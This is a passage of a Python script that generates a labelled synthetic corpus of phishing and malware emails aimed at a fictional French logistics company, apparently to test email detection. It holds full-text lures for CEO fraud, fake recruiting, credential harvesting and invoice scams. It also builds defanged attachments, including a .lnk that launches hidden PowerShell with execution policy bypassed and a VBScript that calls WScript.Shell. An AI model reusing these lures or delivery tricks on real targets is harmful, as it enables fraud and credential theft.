        f"Message-ID: {outlook_msgid(stem, server)}",
        "Reply-To: Yannick Le Bihan <y.lebihan.direction@proton.me>",
        "Accept-Language: fr-FR",
        "Content-Language: fr-FR",
        "X-MS-Has-Attach:",
        "X-MS-TNEF-Correlator:",
        "Importance: high",
        "X-Priority: 1",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "'Fraude au président': the CEO's name on the look-alike kerlann-direction.fr (attacker M365 tenant) asks the CFO for secrecy about a confidential acquisition and an urgent escrow transfer, with replies routed to proton.me.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom="kerlann-direction.fr",
            dkims=[("pass", "kerlanndirection.onmicrosoft.com")], from_dom="kerlann-direction.fr", dmarc="none",
            compauth="pass", reason="109", headers=headers,
            body=alt("\n".join(paras) + "\n\nYannick Le Bihan\nPrésident Directeur Général\nKerlann Industries\n", html,
                     f"_000_{server.split('.')[0]}{hx(stem + 'b', 20, True)}_", "quoted-printable", "utf-8"),
            return_path="<yannick.lebihan@kerlann-direction.fr>")


def a_president_dispo() -> None:
    stem = "b51-phish-president-dispo"
    t = paris("2026-02-03 08:07:52")
    rcpt = mail("comptable")
    plain = "Bonjour Morgane,\n\nEs-tu disponible ? J'ai besoin que tu t'occupes d'une tâche rapidement et en toute discrétion.\n\nYannick\n\nEnvoyé de mon iPhone\n"
    node = num(stem, 41, 54)
    ip = f"209.85.221.{node}"
    host = f"mail-wr1-f{node}.google.com"
    pt = pacific(t)
    headers = "\n".join([
        f"Received: by {host} with SMTP id ffacd0b85a97d-{hx(stem + 'sid', 10)}so{num(stem + 's2', 1000000, 9999999)}f8f.1\n"
        f"        for <{rcpt}>; {rfc(pt)} ({pst_name(pt)})",
        dkim("gmail.com", "20230601", t, "to:date:message-id:subject:mime-version:content-transfer-encoding:from:from:to:cc:subject:date:message-id:reply-to",
             stem, extra=f" x={int(t.timestamp()) + 604800}; darn=kerlann-industries.fr;"),
        f"X-Gm-Message-State: AOJu0Y{b64(stem + 'gms', 48).rstrip('=')}",
        f"X-Google-Smtp-Source: AGHT+I{b64(stem + 'gss', 60).rstrip('=')}",
        fold(f"Received: from smtpclient.apple ([2a01:cb1c:{hx(stem + 'v6', 4)}:{hx(stem + 'v6b', 4)}:{hx(stem + 'v6c', 4)}::{hx(stem + 'v6d', 3)}]) "
             f"by smtp.gmail.com with ESMTPSA id ffacd0b85a97d-{hx(stem + 'esa', 12)}.{num(stem + 'e2', 10, 99)}.{num(stem + 'e3', 1000000, 9999999)}"
             f" for <{rcpt}> (version=TLS1_3 cipher=TLS_AES_128_GCM_SHA256 bits=128/128); {rfc(pt)} ({pst_name(pt)})"),
        "From: Yannick Le Bihan <yannick.lebihan.kerlann@gmail.com>",
        "Mime-Version: 1.0 (1.0)",
        "Subject: Urgent",
        f"Date: {t.strftime('%a, %-d %b %Y %H:%M:%S')} {t.strftime('%z')}",
        f"Message-Id: <{guid(stem + 'mid').upper()}@gmail.com>",
        f"To: {rcpt}",
        "X-Mailer: iPhone Mail (22D82)",
    ])
    deliver(stem, "phishing",
            "Short 'Es-tu disponible ?' CEO-fraud opener sent from an iPhone through a gmail.com address using the CEO's name, to start a gift-card or transfer scam by reply.",
            t=t, helo=host, ip=ip, spf="pass", mailfrom="gmail.com", dkims=[("pass", "gmail.com")], from_dom="gmail.com",
            dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=Leaf("text/plain", plain.encode(), "quoted-printable", "; charset=utf-8"),
            return_path="<yannick.lebihan.kerlann@gmail.com>")


# ---------------------------------------------------------------- fake recruiting


def a_recrutement_offre() -> None:
    stem = "b51-phish-recrutement-offre"
    t = paris("2025-09-16 19:41:20")
    rcpt = mail("affret")
    url = "https://geodis-talents.com/candidature/entretien?ref=FR-AFF-2025-118&c=" + hx(stem + "c", 10)
    html = f"""<html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;font-size:14px;color:#1a1a1a;max-width:640px">
<p>Bonjour Kévin,</p>
<p>Je me permets de vous contacter suite à la consultation de votre profil LinkedIn. Dans le cadre du d&eacute;veloppement de notre agence de Rennes-Chartres-de-Bretagne, nous recrutons un(e) <b>Responsable d'Affr&egrave;tement Road Network</b> (CDI).</p>
<ul><li>R&eacute;mun&eacute;ration : 54 &agrave; 60 K&euro; brut annuel + variable</li><li>T&eacute;l&eacute;travail 2 jours par semaine, v&eacute;hicule de fonction</li><li>Prise de poste : d&eacute;cembre 2025</li></ul>
<p>Votre exp&eacute;rience en affr&egrave;tement national et international correspond parfaitement au profil recherch&eacute;. Je vous propose un premier &eacute;change de 20 minutes en visio.</p>
<p>Pour r&eacute;server un cr&eacute;neau et acc&eacute;der &agrave; la fiche de poste compl&egrave;te, merci de vous identifier sur notre espace candidats (connexion possible avec votre compte professionnel Microsoft) :</p>
<p><a href="{url}">Planifier mon entretien</a></p>
<p>Bien &agrave; vous,</p>
<p><b>Amandine Roussel</b><br>Talent Acquisition Partner - GEODIS Road Network France<br>+33 6 44 82 17 39</p>
</body></html>
"""
    host = "mail.geodis-talents.com"
    headers = "\n".join([
        postfix_hop("[10.10.0.2] (unknown [45.94.31.122])", host, postfix_qid(stem), rcpt, t, esmtp="ESMTPSA"),
        dkim("geodis-talents.com", "s1", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem),
        "From: " + addr("Amandine Roussel | GEODIS", "amandine.roussel@geodis-talents.com"),
        "To: " + to("affret"),
        subject("Opportunité Responsable d'Affrètement - GEODIS Rennes", "utf-8", "Q"),
        f"Date: {rfc(t)}",
        f"Message-ID: <{hx(stem + 'mid', 28)}@geodis-talents.com>",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "Fake recruiting approach in the name of GEODIS from the look-alike geodis-talents.com, sent to a Kerlann freight broker, whose 'espace candidats' link asks for his work Microsoft account.",
            t=t, helo=host, ip="45.94.31.122", spf="pass", mailfrom="geodis-talents.com",
            dkims=[("pass", "geodis-talents.com")], from_dom="geodis-talents.com", dmarc="bestguesspass",
            compauth="pass", reason="109", headers=headers,
            body=alt(strip_tags(html), html, f"=_{hx(stem + 'b', 28)}", "quoted-printable", "utf-8"),
            return_path="<amandine.roussel@geodis-talents.com>")


def a_candidature_cv_lnk() -> None:
    stem = "b51-phish-candidature-cv-lnk"
    t = paris("2025-10-02 22:16:09")
    rcpt = "rh@kerlann-industries.fr"
    lnk = files.lnk_shortcut(r"C:\Windows\System32\cmd.exe",
                             '/c start "" /min powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -Command "exit 0"')
    zipped = files.zip_archive([("CV_Julie_Marchand.pdf.lnk", lnk),
                                ("Lettre_motivation_Julie_Marchand.pdf.lnk", lnk)])
    lines = [
        "Madame, Monsieur,",
        "",
        "Je vous adresse ma candidature pour le poste de Responsable d'exploitation transport publié sur Indeed.",
        "Forte de huit ans d'expérience en exploitation (messagerie et lots complets) chez un transporteur régional, je serais"
        " heureuse de mettre mes compétences au service de Kerlann Industries.",
        "",
        "Vous trouverez mon CV et ma lettre de motivation dans l'archive jointe (le fichier dépassait la taille autorisée).",
        "",
        "Dans l'attente de votre retour, je vous prie d'agréer mes salutations distinguées.",
        "",
        "Julie Marchand",
        "06 71 24 58 93",
    ]
    hop, host, ip, sigs = gmail_parts(stem, t, rcpt, "julie.marchand.pro@gmail.com")
    body = Multi("mixed", f"000000000000{hx(stem + 'm', 16)}", [
        alt("\n".join(lines) + "\n", gmail_html(lines), f"000000000000{hx(stem + 'b', 16)}", "quoted-printable", "UTF-8"),
        Leaf("application/x-zip-compressed", zipped, "base64", '; name="Candidature_Julie_Marchand.zip"',
             'attachment; filename="Candidature_Julie_Marchand.zip"', [f"X-Attachment-Id: f_{hx(stem + 'att', 9)}", f"Content-ID: <f_{hx(stem + 'att', 9)}>"]),
    ])
    headers = "\n".join([
        hop, sigs,
        "MIME-Version: 1.0",
        "From: Julie Marchand <julie.marchand.pro@gmail.com>",
        f"Date: {rfc(t)}",
        f"Message-ID: {gmail_msgid(stem)}",
        subject("Candidature - Responsable d'exploitation transport", "UTF-8", "Q"),
        f"To: {rcpt}",
    ])
    deliver(stem, "malware",
            "Job application to the HR mailbox from a gmail.com 'candidate' with a ZIP holding CV and cover-letter shortcuts (.pdf.lnk) that launch a hidden PowerShell.",
            t=t, helo=host, ip=ip, spf="pass", mailfrom="gmail.com", dkims=[("pass", "gmail.com")], from_dom="gmail.com",
            dmarc="pass", compauth="pass", reason="100", headers=headers, body=body, attach=True,
            return_path="<julie.marchand.pro@gmail.com>")


# ---------------------------------------------------------------- more malware


def a_frachtraten_xll() -> None:
    stem = "b51-phish-frachtraten-xll"
    t = paris("2025-12-16 09:37:48")
    rcpt = mail("affret")
    plain = ("Sehr geehrte Damen und Herren,\nDear Kévin,\n\nanbei erhalten Sie unsere aktualisierten Frachtraten für 2026 (Teil- und"
             " Komplettladungen Frankreich - Deutschland) inkl. Dieselfloater.\nPlease find attached our updated 2026 rate card"
             " (FTL/LTL France - Germany). Open the file in Excel and click 'Enable this add-in' to load the rate calculator.\n\n"
             "Mit freundlichen Grüßen / Best regards\n\nMarkus Weidner\nDisposition International\nSpedition Hartmann GmbH\n"
             "Hafenstraße 22 - 47119 Duisburg\nTel. +49 203 418 77 20\n")
    body = Multi("mixed", f"------------{hx(stem, 24, True)[:24]}", [
        Leaf("text/plain", plain.encode(), "8bit", '; charset=UTF-8; format=flowed'),
        Leaf("application/octet-stream", files.pe_stub(), "base64", '; name="Frachtraten_2026_Kerlann.xll"',
             'attachment; filename="Frachtraten_2026_Kerlann.xll"'),
    ])
    host = "mail.spedition-hartmann.de"
    headers = "\n".join([
        postfix_hop("[192.168.178.41] (p5dd8a21c.dip0.t-ipconnect.de [93.216.162.28])", host, postfix_qid(stem), rcpt, t,
                    esmtp="ESMTPSA"),
        dkim("spedition-hartmann.de", "dkim2024", t, "Content-Type:Subject:From:To:MIME-Version:Date:Message-ID", stem),
        f"Message-ID: <{guid(stem + 'mid')}@spedition-hartmann.de>",
        f"Date: {rfc(t)}",
        "MIME-Version: 1.0",
        "User-Agent: Mozilla Thunderbird",
        "Content-Language: de-DE",
        "To: " + to("affret", "UTF-8"),
        "From: Markus Weidner <m.weidner@spedition-hartmann.de>",
        "Subject: Frachtraten 2026 / rate card 2026 - Kerlann Industries",
    ])
    deliver(stem, "malware",
            "German/English '2026 rate card' from a compromised mailbox at the haulier partner Spedition Hartmann (own server, all checks pass) carrying an Excel add-in (.xll) that is a native DLL payload.",
            t=t, helo=host, ip="88.99.141.57", spf="pass", mailfrom="spedition-hartmann.de",
            dkims=[("pass", "spedition-hartmann.de")], from_dom="spedition-hartmann.de", dmarc="pass", compauth="pass",
            reason="100", headers=headers, body=body, attach=True, return_path="<m.weidner@spedition-hartmann.de>")


def a_releve_compte_vbs() -> None:
    stem = "b51-phish-releve-compte-vbs"
    t = paris("2025-12-01 07:52:30")
    rcpt = mail("compta")
    vbs = ('\' Releve de compte fournisseur\r\nDim o, c\r\nSet o = CreateObject("WScript.Shell")\r\n'
           'c = "cmd /c exit 0"\r\no.Run c, 0, False\r\nSet o = Nothing\r\n').encode()
    zipped = files.zip_archive([("Releve_compte_Kerlann_30-11-2025.vbs", vbs)])
    plain = ("Bonjour,\n\nCi-joint le relevé de votre compte client arrêté au 30/11/2025. Plusieurs factures restent non lettrées"
             " de notre côté (total 2 316,48 €), pourriez-vous vérifier et nous indiquer les références de vos règlements ?\n\n"
             "Cordialement,\n\nChristine\nGarage Poids Lourds Bretagne\n")
    body = Multi("mixed", f"=_{hx(stem, 32)}", [
        Leaf("text/plain", plain.encode(), "quoted-printable", "; charset=UTF-8; format=flowed"),
        Leaf("application/zip", zipped, "base64", '; name="Releve_compte_30-11-2025.zip"',
             'attachment; filename="Releve_compte_30-11-2025.zip"'),
    ])
    helo = "smtp1-g21.free.fr"
    headers = "\n".join([
        postfix_hop("zimbra-e3-02.priv.proxad.net (unknown [172.20.243.33])", helo, postfix_qid(stem), rcpt, t, esmtp="ESMTP",
                    cipher=False),
        dkim("free.fr", "smtp-20201208", t, "Date:From:To:Message-ID:Subject:MIME-Version:Content-Type", stem),
        f"Date: {rfc(t)}",
        "From: " + addr("Garage PL Bretagne - Compta", "gplb.compta@free.fr"),
        f"To: {rcpt}",
        f"Message-ID: <{num(stem + 'zm', 100000000, 999999999)}.{num(stem + 'zm2', 10000000, 99999999)}.{int(t.timestamp())}{num(stem, 100, 999)}.JavaMail.root@zimbra-e3-02.priv.proxad.net>",
        subject("Relevé de compte au 30/11/2025 - factures non lettrées", "utf-8", "Q"),
        "MIME-Version: 1.0",
        "X-Mailer: Zimbra 9.0.0_ZEXTRAS_20240927 (zclient/9.0.0_ZEXTRAS_20240927)",
        "X-Originating-IP: [86.246.77.140]",
    ])
    deliver(stem, "malware",
            "'Relevé de compte, factures non lettrées' from a compromised free.fr mailbox of a truck-repair supplier, carrying a ZIP with a VBScript that starts WScript.Shell.",
            t=t, helo=helo, ip="212.27.42.1", spf="pass", mailfrom="free.fr", dkims=[("pass", "free.fr")], from_dom="free.fr",
            dmarc="pass", compauth="pass", reason="100", headers=headers, body=body, attach=True,
            return_path="<gplb.compta@free.fr>")


# ---------------------------------------------------------------- other current lures


def a_quota_boite_gsites() -> None:
    stem = "b51-phish-quota-boite-gsites"
    t = paris("2026-04-07 13:58:02")
    rcpt = mail("import")
    url = "https://sites.google.com/view/kerlann-industries-webmail/accueil"
    html = f"""<div style="font-family:Calibri,Arial,sans-serif;font-size:11pt">
<p>Bonjour {rcpt},</p>
<p>Votre bo&icirc;te aux lettres a atteint <b>98 %</b> de son quota de stockage (49,1 Go / 50 Go).</p>
<p>Les nouveaux messages entrants sont actuellement mis en attente et seront rejet&eacute;s sous 24 heures.</p>
<p>Pour augmenter gratuitement votre espace de stockage, <a href="{url}">validez votre compte ici</a>.</p>
<p style="color:#777;font-size:9pt">Administrateur Messagerie - kerlann-industries.fr</p>
</div>
"""
    plain = strip_tags(html)
    relay = "relay4-d.mail.gandi.net"
    headers = "\n".join([
        postfix_hop("[192.168.0.12] (lfbn-ren-1-228-17.w86-229.abo.wanadoo.fr [86.229.52.17])", relay, postfix_qid(stem), rcpt, t,
                    esmtp="ESMTPSA"),
        "X-GND-Sasl: accueil@camping-les-dunes-erquy.fr",
        dkim("camping-les-dunes-erquy.fr", "gm1", t, "from:from:reply-to:subject:subject:date:date:message-id:message-id:to:to:cc:mime-version:mime-version:content-type:content-type", stem),
        "From: " + addr("Administrateur Messagerie", "accueil@camping-les-dunes-erquy.fr"),
        f"To: {rcpt}",
        subject("Alerte quota : votre boîte aux lettres est presque pleine (98 %)", "utf-8", "Q"),
        f"Date: {rfc(t)}",
        f"Message-ID: <{hx(stem + 'mid', 24)}@camping-les-dunes-erquy.fr>",
        "MIME-Version: 1.0",
        "X-GND-State: clean",
        "X-GND-Score: 0",
    ])
    deliver(stem, "phishing",
            "Generic 'mailbox quota 98 %' webmail lure from a compromised campsite mailbox hosted at Gandi, with the credential page on Google Sites.",
            t=t, helo=relay, ip="217.70.183.196", spf="pass", mailfrom="camping-les-dunes-erquy.fr",
            dkims=[("pass", "camping-les-dunes-erquy.fr")], from_dom="camping-les-dunes-erquy.fr", dmarc="none",
            compauth="pass", reason="109", headers=headers,
            body=alt(plain, html, f"=_{hx(stem + 'b', 28)}", "quoted-printable", "utf-8"),
            return_path="<accueil@camping-les-dunes-erquy.fr>")


def a_cmacgm_salesforce() -> None:
    stem = "b51-phish-cmacgm-salesforce"
    t = paris("2026-03-03 10:31:55")
    rcpt = mail("import")
    url = f"https://script.google.com/macros/s/AKfycb{b64url(stem + 'gas', 54)}/exec?acc=import"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
<body style="margin:0;background:#f5f6f8;font-family:Arial,Helvetica,sans-serif">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="background:#04246a;padding:18px 26px"><img src="https://www.cma-cgm.com/static/Common/Images/logo-cmacgm-white.png" alt="CMA CGM" width="140"></td></tr>
<tr><td style="padding:26px;font-size:14px;color:#1d1d1b;line-height:22px">
<p>Dear eBusiness user,</p>
<p>Your CMA CGM eBusiness password will expire in <b>24 hours</b>. To keep access to your bookings, B/L drafts, invoices and container tracking, please confirm your current password.</p>
<p style="margin:24px 0"><a href="{url}" style="background:#e4002b;color:#fff;padding:12px 26px;text-decoration:none;font-weight:bold">Keep my current password</a></p>
<p>If you do not take action, your account will be locked and you will have to contact your local agency to reactivate it.</p>
<p>CMA CGM eBusiness Support</p>
</td></tr></table></td></tr></table></body></html>
"""
    host = f"smtp{num(stem + 'h', 10, 19)}-ia{num(stem + 'h2', 4, 6)}-sp3.mta.salesforce.com"
    ip = f"13.110.{num(stem + 'i', 74, 78)}.{num(stem + 'j', 10, 240)}"
    headers = "\n".join([
        fold(f"Received: from [10.{num(stem + 'a', 1, 200)}.{num(stem + 'b', 1, 200)}.{num(stem + 'c', 1, 200)}] "
             f"([10.{num(stem + 'a', 1, 200)}.{num(stem + 'b', 1, 200)}.{num(stem + 'c', 1, 200)}:{num(stem + 'p', 30000, 60000)}] helo={host.replace('smtp', 'na')}) "
             f"by {host} (envelope-from <noreply@salesforce.com>) (ecelerity 4.3.1.999 r(:)) with ESMTPS (cipher=ECDHE-RSA-AES256-GCM-SHA384) "
             f"id {hx(stem + 'ec', 2, True)}/{hx(stem + 'ec2', 2, True)}-{num(stem + 'ec3', 10000, 99999)}-{hx(stem + 'ec4', 8)}; {rfc(utc(t))}"),
        dkim("salesforce.com", "sf112022", t, "Date:From:To:Subject:MIME-Version:Content-Type", stem),
        f"Date: {rfc(utc(t))}",
        "From: CMA CGM eBusiness <noreply@salesforce.com>",
        f"To: {rcpt}",
        f"Message-ID: <{b64url(stem + 'mid', 40)}@sfdc.net>",
        "Subject: Your CMA CGM eBusiness password expires in 24 hours",
        "MIME-Version: 1.0",
        "X-Priority: 3",
        "X-SFDC-LK: 00D" + hx(stem + "lk", 12, True),
        "X-SFDC-User: 005" + hx(stem + "us", 12, True),
        "X-Sender: postmaster@salesforce.com",
        "X-mail_abuse_inquiries: http://www.salesforce.com/company/abuse.jsp",
        "X-SFDC-TLS-NoRelay: 1",
        f"X-SFDC-Binding: {b64url(stem + 'bind', 12)}",
        "X-SFDC-EmailCategory: apiSingleMail",
        "X-SFDC-Interface: internal",
    ])
    deliver(stem, "phishing",
            "CMA CGM eBusiness 'password expires in 24 hours' lure relayed through a misused Salesforce org (From noreply@salesforce.com, all checks pass) linking to a Google Apps Script credential page.",
            t=t, helo=host, ip=ip, spf="pass", mailfrom="salesforce.com", dkims=[("pass", "salesforce.com")],
            from_dom="salesforce.com", dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=Leaf("text/html", html.encode(), "quoted-printable", '; charset="UTF-8"'),
            return_path=f"<bounce-{hx(stem + 'bn', 20)}@bnc.salesforce.com>")


def a_dhl_facture_html() -> None:
    stem = "b51-phish-dhl-facture-html"
    t = paris("2026-04-21 11:14:36")
    rcpt = mail("compta")
    victim = base64.b64encode(rcpt.encode()).decode()
    page = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>DHL Express - Facture</title>
<script src="https://www.boulangerie-tanguy-vitre.fr/wp-includes/js/dist/vendor/regenerator-runtime.min.js?ver=0.14.1&amp;d=dhl"></script>
</head><body style="margin:0;background:#fc0">
<div id="app" data-u="{victim}" style="font-family:Arial;padding:60px;text-align:center">Chargement de la facture DHL Express n&deg; FRD26041187...</div>
</body></html>
"""
    paras = [
        "Bonjour,",
        "",
        "Veuillez trouver ci-joint la facture DHL Express n° FRD26041187 relative à vos envois du mois de mars 2026.",
        "Montant : 1 927,40 € TTC - Échéance : 30/04/2026.",
        "",
        "Pour des raisons de sécurité, la facture s'ouvre après vérification de votre adresse e-mail professionnelle.",
        "",
        "Cordialement,",
        "DHL Express France - Service Facturation",
    ]
    html = outlook_html(paras, charset="utf-8")
    server = "PR1P264MB2419.FRAP264.PROD.OUTLOOK.COM"
    hop, helo, ip, sigs = m365_sender(stem, t, "dhlexpressfr.onmicrosoft.com", server, rcpt,
                                      sel="selector1-dhlexpressfr-onmicrosoft-com")
    body = Multi("mixed", f"_004_{server.split('.')[0]}{hx(stem + 'b', 20, True)}_", [
        Multi("alternative", f"_000_{server.split('.')[0]}{hx(stem + 'b', 20, True)}_", [
            text("\n".join(paras) + "\n", "plain", "quoted-printable", "utf-8"), text(html, "html", "quoted-printable", "utf-8")]),
        Leaf("text/html", page.encode(), "base64", '; name="Facture_DHL_FRD26041187.html"',
             'attachment; filename="Facture_DHL_FRD26041187.html"'),
    ])
    headers = "\n".join([
        hop, sigs,
        "From: " + addr("DHL Express Facturation", "facturation@dhlexpressfr.onmicrosoft.com"),
        f"To: {rcpt}",
        subject("Facture DHL Express FRD26041187 - échéance 30/04/2026", "utf-8", "Q"),
        "Thread-Topic: Facture DHL Express FRD26041187",
        "Thread-Index: " + thread_index(stem, t, 0),
        f"Date: {rfc(utc(t))}",
        f"Message-ID: {outlook_msgid(stem, server)}",
        "Accept-Language: fr-FR",
        "Content-Language: fr-FR",
        "X-MS-Has-Attach: yes",
        "X-MS-TNEF-Correlator:",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "DHL Express invoice sent from an attacker's Microsoft 365 trial tenant (dhlexpressfr.onmicrosoft.com, passes everything) with an HTML 'invoice' that pulls its login form from a script on a hacked WordPress site.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom="dhlexpressfr.onmicrosoft.com",
            dkims=[("pass", "dhlexpressfr.onmicrosoft.com")], from_dom="dhlexpressfr.onmicrosoft.com", dmarc="pass",
            compauth="pass", reason="100", headers=headers, body=body, attach=True,
            return_path="<facturation@dhlexpressfr.onmicrosoft.com>")


def a_sitl_liste_visiteurs() -> None:
    stem = "b51-phish-sitl-liste-visiteurs"
    t = paris("2026-02-24 16:22:41")
    rcpt = "contact@kerlann-industries.fr"
    lines = [
        "Hi,",
        "",
        "Would you be interested in acquiring the SITL Europe 2026 Visitors / Attendees list?",
        "",
        "Total counts: 14,826",
        "Data fields: Company name, contact name, job title, verified e-mail, phone, website, country.",
        "",
        "Let me know if you are interested, and I will share the pricing and a sample file for your review.",
        "",
        "Best regards,",
        "Kathy Morris",
        "Event Data Specialist",
    ]
    html = "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=us-ascii\"></head><body><div style=\"font-family: Aptos, Arial, sans-serif; font-size: 12pt;\">" + "".join(
        f"<div>{ln if ln else '<br>'}</div>" for ln in lines) + "</div></body></html>\n"
    server = "AM8PR04MB7827.eurprd04.prod.outlook.com"
    hop, helo, ip, sigs = m365_sender(stem, t, "outlook.com", server, rcpt)
    ip = f"40.92.{num(stem + 'o1', 40, 70)}.{num(stem + 'o2', 10, 250)}"
    headers = "\n".join([
        hop, sigs,
        "From: Kathy Morris <kathy.morris.eventdata@outlook.com>",
        f"To: {rcpt}",
        "Subject: SITL Europe 2026 Attendees list",
        "Thread-Topic: SITL Europe 2026 Attendees list",
        "Thread-Index: " + thread_index(stem, t, 0),
        f"Date: {rfc(utc(t))}",
        f"Message-ID: {outlook_msgid(stem, server)}",
        "Accept-Language: en-US",
        "Content-Language: en-US",
        "X-MS-Has-Attach:",
        "X-MS-TNEF-Correlator:",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "Trade-show 'SITL Europe 2026 attendees list' offer from a free outlook.com address: an advance-fee data-list scam that starts with a reply.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom="outlook.com", dkims=[("pass", "outlook.com")],
            from_dom="outlook.com", dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=alt("\n".join(lines) + "\n", html, f"_000_{server.split('.')[0]}{hx(stem + 'b', 20, True)}_", "quoted-printable", "us-ascii"),
            return_path="<kathy.morris.eventdata@outlook.com>")


def a_domaine_cn() -> None:
    stem = "b51-phish-domaine-cn"
    t = shift(paris("2025-06-17 04:26:13"), 8)
    rcpt = mail("ceo")
    plain = (
        "(If you are not the person who is in charge of this, please forward this to your CEO, because this is urgent. Thanks)\n\n"
        "Dear CEO,\n\nWe are a Network Service Company which is the domain name registration center in Shanghai, China. On June 16,"
        " 2025, we received an application from Huayang Holdings Ltd requested \"kerlann-industries\" as their internet keyword and"
        " China (CN) domain names (kerlann-industries.cn, kerlann-industries.com.cn, kerlann-industries.net.cn, kerlann-industries.org.cn).\n\n"
        "But after checking it, we find this name conflict with your company name or trademark. In order to deal with this matter"
        " better, it's necessary to send email to you and confirm whether this company is your distributor or business partner in China?\n\n"
        "Best Regards,\n\nJim Lin | Service & Operations Manager\nChina Registry (Head Office) | 6012, Xingdi Building, No. 1698 Yishan"
        " Road, Shanghai, China\nTel: +86-02164193517 | Fax: +86-02161918697 | Mob: +86-13816428671\nEmail: jim.lin@cnregistry-center.cn\n"
    )
    html = "<html><body><div style=\"font-family:Verdana;font-size:10pt\">" + plain.replace("\n", "<br>\n") + "</div></body></html>\n"
    host = "mail.cnregistry-center.cn"
    headers = "\n".join([
        fold(f"Received: from WIN-5R3JQ0V8B2K (unknown [116.228.{num(stem, 10, 250)}.{num(stem + 'x', 10, 250)}]) by ajax-webmail-"
             f"{host} (Coremail) ; {rfc(t)} (GMT+08:00)"),
        dkim("cnregistry-center.cn", "default", t, "Date:From:To:Subject:Content-Type:MIME-Version:Message-ID", stem),
        f"Date: {rfc(t)}",
        'From: "Jim Lin" <jim.lin@cnregistry-center.cn>',
        f"To: {rcpt}",
        "Subject: kerlann-industries Brand and Domain Name Registration",
        "X-Priority: 3",
        "X-GUID: " + guid(stem + "g").upper(),
        "X-Has-Attach: no",
        "X-Mailer: Foxmail 7.2.25.254[cn]",
        "Mime-Version: 1.0",
        f"Message-ID: <{t.strftime('%Y%m%d%H%M%S')}{num(stem + 'm', 1000000, 9999999)}@cnregistry-center.cn>",
    ])
    deliver(stem, "phishing",
            "Classic Chinese domain-registration scam ('a company applied for kerlann-industries.cn, is it your partner?') sent to the CEO from cnregistry-center.cn, meant to sell overpriced defensive registrations after a reply.",
            t=t, helo=host, ip="101.89.23.71", spf="pass", mailfrom="cnregistry-center.cn",
            dkims=[("pass", "cnregistry-center.cn")], from_dom="cnregistry-center.cn", dmarc="none",
            compauth="pass", reason="109", headers=headers,
            body=alt(plain, html, f"----=_NextPart_{hx(stem, 6, True)}_{hx(stem + 'b', 8, True)}_{hx(stem + 'c', 8, True)}", "base64", "utf-8"),
            return_path="<jim.lin@cnregistry-center.cn>", tls="TLS1_2")


def a_nl_offerteaanvraag() -> None:
    stem = "b51-phish-nl-offerteaanvraag"
    t = paris("2026-05-12 09:46:27")
    rcpt = mail("affret")
    url = f"https://docs.google.com/presentation/d/e/2PACX-1vQ{b64url(stem + 'gd', 60)}/pub?start=false&loop=false&delayms=3000"
    paras = [
        "Goedemorgen,",
        "",
        "Wij ontvangen graag een offerte voor het volgende transport:",
        "",
        "Laadadres: Waalhaven, Rotterdam (NL)",
        "Losadres: Rennes (FR)",
        "Lading: 14 pallets, ca. 9.800 kg, niet gestapeld",
        "Laaddatum: week 21",
        "",
        f'De volledige specificaties en de laadlijst vindt u in het gedeelde document: <a href="{url}">Offerteaanvraag_RTM-REN_wk21.pdf</a>',
        "",
        "Met vriendelijke groet,",
    ]
    sig = ["<b>Pieter de Wit</b>", "Inkoop &amp; Logistiek", "De Wit Agrohandel B.V.", "Barendrecht - +31 180 64 22 18"]
    html = outlook_html(paras, sig, lang="NL", charset="utf-8")
    plain = strip_tags(html)
    server = "AS4PR09MB6215.eurprd09.prod.outlook.com"
    hop, helo, ip, sigs = m365_sender(stem, t, "dewitagrohandel.nl", server, rcpt)
    headers = "\n".join([
        hop, sigs,
        "From: Pieter de Wit <p.dewit@dewitagrohandel.nl>",
        "To: " + to("affret"),
        "Subject: Offerteaanvraag zeevracht/wegtransport Rotterdam - Rennes wk 21",
        "Thread-Topic: Offerteaanvraag zeevracht/wegtransport Rotterdam - Rennes wk 21",
        "Thread-Index: " + thread_index(stem, t, 0),
        f"Date: {rfc(utc(t))}",
        f"Message-ID: {outlook_msgid(stem, server)}",
        "Accept-Language: nl-NL, en-US",
        "Content-Language: nl-NL",
        "X-MS-Has-Attach:",
        "X-MS-TNEF-Correlator:",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "Dutch request for a transport quote from a compromised mailbox at an agri-trading firm (their real M365 tenant, all checks pass) whose 'specifications' link is a published Google Slides deck that forwards to a credential page.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom="dewitagrohandel.nl", dkims=[("pass", "dewitagrohandel.nl")],
            from_dom="dewitagrohandel.nl", dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=alt(plain, html, f"_000_{server.split('.')[0]}{hx(stem + 'b', 20, True)}_", "quoted-printable", "utf-8"),
            return_path="<p.dewit@dewitagrohandel.nl>")


# ============================================================================================
# LEGITIMATE LOOK-ALIKES
# ============================================================================================


def l_maersk_arrival_notice() -> None:
    stem = "b51-legit-maersk-arrival-notice"
    t = paris("2025-01-20 06:12:09")
    rcpt = "import@kerlann-industries.fr"
    doc = pdf_doc([
        "MAERSK - ARRIVAL NOTICE", "", "Bill of Lading: 258803117          Booking: 258803117",
        "Vessel / Voyage: MAERSK KINLOSS / 503W", "Port of Loading: Shanghai, CN     Port of Discharge: Le Havre, FR",
        "ETA: 24-01-2025                    Terminal: Terminal Porte Oceane (TPO)", "",
        "Consignee: KERLANN INDUSTRIES, ZI Sud-Est, 35000 Rennes, France", "Notify: KERLANN INDUSTRIES - Service Import", "",
